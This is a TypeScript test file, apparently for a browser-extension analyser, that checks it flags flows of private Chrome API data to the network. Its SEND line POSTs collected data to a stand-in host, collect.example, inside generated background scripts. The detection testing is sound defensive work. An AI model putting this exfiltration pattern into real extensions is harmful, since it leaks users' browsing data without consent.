import { describe, expect, it } from 'vitest';
import { verdictOn } from '../../../test/matrix/extension/verdict.ts';
import { ANSWERS, EVENTS } from './interfaceTable.ts';

const MANIFEST = JSON.stringify({
  manifest_version: 3,
  name: 'A',
  version: '1',
  host_permissions: ['<all_urls>'],
  background: { service_worker: 'bg.js' },
});

/** Labels of flows of a background script to the network. */
async function flows(script: string): Promise<readonly string[]> {
  return (await verdictOn({ 'manifest.json': MANIFEST, 'bg.js': script }, 'private', 'network')).flows;
}

const SEND = "fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(data) });";

describe('every line of the table of interfaces is followed', () => {
  it.each([...new Set(ANSWERS.map(([name]) => name))])('%s answers', async (name) => {
    expect(await flows(`chrome.${name}({ populate: true }, (data) => { ${SEND} });`)).not.toEqual([]);
  });
  it.each(
    EVENTS.filter(([, kind]) => kind !== 'page-dom').map(
      ([name, , index, properties]) => [name, index, properties] as const,
    ),
  )('%s tells its parameter %i', async (name, index, properties) => {
    const given = Array.from({ length: index + 1 }, (_, at) => (at === index ? 'told' : `p${at}`)).join(', ');
    const read = `const data = ${['told', ...properties].join('.')};`;
    expect(await flows(`chrome.${name}.addListener((${given}) => { ${read} ${SEND} });`)).not.toEqual([]);
  });
});
